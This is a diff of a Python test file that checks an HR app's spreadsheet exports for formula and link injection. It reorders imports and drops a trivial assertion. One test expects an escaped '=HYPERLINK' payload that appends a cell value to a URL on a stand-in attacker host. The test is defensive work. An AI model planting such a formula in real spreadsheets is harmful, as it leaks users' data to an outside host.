@@ -2,12 +2,12 @@
 
 import csv
 from io import BytesIO, StringIO
+from zipfile import ZipFile
 
 import pytest
 from python_calamine import CalamineWorkbook
 
 from app.services import people
-from tests import factories
 from tests.factories import COURSE, NOW
 
 FORMULAS = [
@@ -81,8 +81,6 @@ def table_of(world, path: str) -> list[list[str]]:
 
 @pytest.mark.parametrize("path", FILES)
 def test_an_xlsx_file_has_no_formula_and_no_link_inside(world, named, path):
-    from zipfile import ZipFile
-
     with ZipFile(BytesIO(world.client("hr").get(path.format("xlsx"), buffered=True).data)) as archive:
         parts = {name: archive.read(name) for name in archive.namelist()}
     sheets = [body for name, body in parts.items() if name.startswith("xl/worksheets/")]
@@ -104,4 +102,3 @@ def test_a_file_is_saved_and_not_opened_in_the_browser(world, kind):
 def test_the_page_of_a_formula_is_text_too(world, named):
     page = world.client("hr").get("/hr/?q=HYPERLINK").text
     assert "=HYPERLINK(&#34;https://evil.example/&#34;&amp;A1,&#34;Open&#34;)" in page
-    assert factories.NOW
